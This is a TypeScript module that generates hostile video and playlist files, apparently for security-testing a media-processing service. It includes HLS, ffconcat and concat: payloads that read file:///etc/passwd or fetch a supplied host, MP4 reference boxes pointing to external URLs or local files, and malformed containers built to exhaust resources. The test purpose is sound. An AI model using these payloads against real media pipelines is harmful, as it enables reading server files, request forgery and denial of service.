import { be16, be32, box, type Hostile, join, le32, riff, text, zeros } from './hostile.ts'

const ftyp = box('ftyp', 'isom', be32(512), 'isomiso2mp41')
const full = zeros(4)

/** An MP4 track with external data, or with arbitrary values in its tables. */
function movie({
  data = box('url ', Buffer.from([0, 0, 0, 1])),
  width = 320,
  height = 240,
  samples = 1,
  size = 100,
  codec = 'avc1',
} = {}): Buffer {
  const entry = box(
    codec,
    zeros(6),
    be16(1),
    zeros(16),
    be16(width, height),
    be32(0x480000, 0x480000, 0),
    be16(1),
    zeros(32),
    be16(24, 0xffff),
  )
  const table = box(
    'stbl',
    box('stsd', full, be32(1), entry),
    box('stts', full, be32(1, samples, 1000)),
    box('stsc', full, be32(1, 1, samples, 1)),
    box('stsz', full, be32(size, samples)),
    box('stco', full, be32(1, 48)),
  )
  const media = box(
    'mdia',
    box('mdhd', full, zeros(8), be32(1000, samples * 1000, 0)),
    box('hdlr', full, zeros(4), 'vide', zeros(13)),
    box('minf', box('vmhd', zeros(12)), box('dinf', box('dref', full, be32(1), data)), table),
  )
  const track = box(
    'trak',
    box(
      'tkhd',
      Buffer.from([0, 0, 0, 3]),
      zeros(8),
      be32(1, 0, 1000),
      zeros(16),
      zeros(36),
      be32(width << 16, height << 16),
    ),
    media,
  )
  return join(
    ftyp,
    box('moov', box('mvhd', full, zeros(8), be32(1000, 1000), zeros(80)), track),
    box('mdat', zeros(400)),
  )
}

/** Playlists and similar formats that refer to external resources. */
const playlists = (host: string): [string, string][] => [
  ['hls', `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${host}/hls.ts\n#EXT-X-ENDLIST\n`],
  [
    'hls-file',
    '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n',
  ],
  ['hls-concat', `#EXTM3U\n#EXTINF:9,\nconcat:${host}/head|file:///etc/passwd\n#EXT-X-ENDLIST\n`],
  ['hls-key', `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${host}/key"\n#EXTINF:9,\n${host}/k.ts\n`],
  ['hls-master', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=9\n${host}/master.m3u8\n`],
  ['concat', `ffconcat version 1.0\nfile '${host}/concat.mp4'\nfile '/etc/passwd'\n`],
  [
    'dash',
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation><BaseURL>${host}/dash</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  ],
  ['smooth', `<SmoothStreamingMedia><StreamIndex Url="${host}/smooth"/></SmoothStreamingMedia>`],
  [
    'sdp',
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\na=control:${host}/sdp\n`,
  ],
  ['asx', `<asx version="3.0"><entry><ref href="${host}/asx"/></entry></asx>`],
  ['real', `${host}/real.rm\n`],
  ['reference', `RTSPtext\r\nrtsp://${host.replace('http://', '')}/film\r\n`],
]

function containers(host: string): [string, string, Buffer][] {
  const url = join(full, `${host}/dref.mov`, '\0')
  const alias = join(full, zeros(150), '/etc/passwd\0')
  const ebml = text('\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska')
  const nested = Array.from({ length: 3000 }).reduce<Buffer>(inner => box('moov', inner), zeros(0))
  const avi = (width: number, height: number, ...more: Buffer[]) =>
    riff(
      'RIFF',
      'AVI ',
      riff(
        'LIST',
        'hdrl',
        riff('avih', le32(40_000, 0, 0, 0x10, 0xffffffff, 0, 1, 0, width, height), zeros(16)),
        riff(
          'LIST',
          'strl',
          riff('strh', 'vidsMJPG', zeros(12), le32(1, 25, 0, 0xffffffff), zeros(24)),
          riff('strf', le32(40, width, height), text('\x01\0\x18\0MJPG'), zeros(20)),
        ),
      ),
      ...more,
      riff('LIST', 'movi', riff('00dc', Buffer.alloc(400, 0xff))),
    )
  return [
    ['dref-url.mp4', 'video/mp4', movie({ data: box('url ', url) })],
    ['dref-alias.mov', 'video/quicktime', movie({ data: box('alis', alias) })],
    ['dref-urn.mp4', 'video/mp4', movie({ data: box('urn ', url) })],
    [
      'reference.mov',
      'video/quicktime',
      join(
        box('ftyp', 'qt  ', be32(0), 'qt  '),
        box(
          'moov',
          box('rmra', box('rmda', box('rdrf', full, 'url ', be32(host.length + 1), host, '\0'))),
        ),
      ),
    ],
    ['dimensions.mp4', 'video/mp4', movie({ width: 65_535, height: 65_535 })],
    ['samples.mp4', 'video/mp4', movie({ samples: 0x0fffffff })],
    ['large-sample.mp4', 'video/mp4', movie({ size: 0x7fffffff })],
    [
      'raw.mov',
      'video/quicktime',
      movie({ codec: 'raw ', width: 30_000, height: 30_000, size: 0x3fffffff }),
    ],
    ['png.mov', 'video/quicktime', movie({ codec: 'png ', width: 30_000, height: 30_000 })],
    ['script-codec.mp4', 'video/mp4', movie({ codec: 'tx3g' })],
    ['nested.mp4', 'video/mp4', join(ftyp, nested)],
    ['endless-box.mp4', 'video/mp4', join(ftyp, be32(0), 'moov', zeros(900))],
    [
      'long-box.mp4',
      'video/mp4',
      join(ftyp, be32(1), 'moov', be32(0x7fffffff, 0xffffffff), zeros(90)),
    ],
    ['type-only.mp4', 'video/mp4', ftyp],
    [
      'endless.mkv',
      'video/x-matroska',
      join(
        ebml,
        text('\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff'),
        text('\xec\x01\xff\xff\xff\xff\xff\xff\xfe'),
        zeros(900),
      ),
    ],
    [
      'voids.mkv',
      'video/x-matroska',
      join(
        ebml,
        text('\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff'),
        Buffer.alloc(1_000_000, text('\xec\x80')),
      ),
    ],
    [
      'nested.webm',
      'video/webm',
      join(
        ebml,
        ...Array.from({ length: 4000 }, () =>
          text('\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff'),
        ),
      ),
    ],
    ['garbage.webm', 'video/webm', join(ebml, Buffer.alloc(9000, 0xa3))],
    ['dimensions.avi', 'video/x-msvideo', avi(0x7fffffff, 0x7fffffff)],
    ['index.avi', 'video/x-msvideo', avi(320, 240, riff('idx1', Buffer.alloc(320_000, 0xff)))],
    [
      'list.avi',
      'video/x-msvideo',
      riff('RIFF', 'AVI ', ...Array.from({ length: 20_000 }, () => riff('LIST', 'hdrl'))),
    ],
    [
      'garbage.ogv',
      'video/ogg',
      Buffer.concat(
        Array.from({ length: 2000 }, () =>
          join('OggS\0\x02', zeros(20), '\x01\x1e\x01vorbis', zeros(23)),
        ),
      ),
    ],
    [
      'segments.ogv',
      'video/ogg',
      Buffer.concat(
        Array.from({ length: 500 }, () =>
          join('OggS\0\0', zeros(20), '\xff', Buffer.alloc(255, 255), Buffer.alloc(60_000)),
        ),
      ),
    ],
  ]
}

export function hostileVideos(host: string): Hostile[] {
  return [
    ...playlists(host).map(([name, content]) => ({
      of: 'playlist',
      name: `${name}.mp4`,
      mediaType: 'video/mp4',
      bytes: text(content),
    })),
    // A file that begins like a video and continues like a playlist.
    {
      of: 'playlist',
      name: 'moov-hls.mp4',
      mediaType: 'video/mp4',
      bytes: join(box('free', zeros(8)), `#EXTM3U\n#EXTINF:9,\n${host}/moov.ts\n`),
    },
    ...containers(host).map(([name, mediaType, bytes]) => ({
      of: 'video',
      name,
      mediaType,
      bytes,
    })),
  ]
}
